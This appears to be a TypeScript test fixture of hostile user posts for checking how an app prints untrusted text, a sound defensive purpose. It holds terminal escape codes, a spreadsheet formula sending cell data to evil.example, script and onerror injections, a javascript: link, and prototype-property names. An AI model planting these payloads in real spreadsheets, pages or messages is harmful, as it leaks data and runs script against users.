/**
 * What strangers can put into a post to harm whoever prints or opens it: terminal control sequences, spreadsheet
 * formulas, text direction overrides, endless words, stacked marks, markup, the names of object internals.
 */
export const HOSTILE = {
  terminal: '\u001b[2J\u001b[31mYour flight is cancelled\u001b[0m\u0007 says the board in Vellin. Is it?\u009b1A',
  formula: '=HYPERLINK("https://evil.example/?x="&A1,"Your refund") is what your mail says. Is that you?',
  plus: '+1 for a refund, -1 for the queue in Saltmarsh, @all of you: what now?',
  direction: 'My booking name shows as \u202eedirrevo\u202c on the pass. Can you fix it?',
  longWord: `Aaaa${'a'.repeat(180)}rgh, gate closed. What now?`,
  marks: `Z\u0351\u036b\u0343a\u0358\u0321l\u0321g\u0360o flight, or is the board in Old Quay broken? 👩‍👩‍👧‍👦🏳️‍🌈✈️`,
  markup: '<script>alert(1)</script> <b>bold</b> & "quoted" <img src=x onerror=alert(1)> does your chat print this?',
  internals: '__proto__ constructor toString hasOwnProperty: my middle names. Will the ticket form take them?',
  markdown: '[click](javascript:alert(1)) | a | table | `code` **and** ~stars~, how do I file a claim?',
} as const
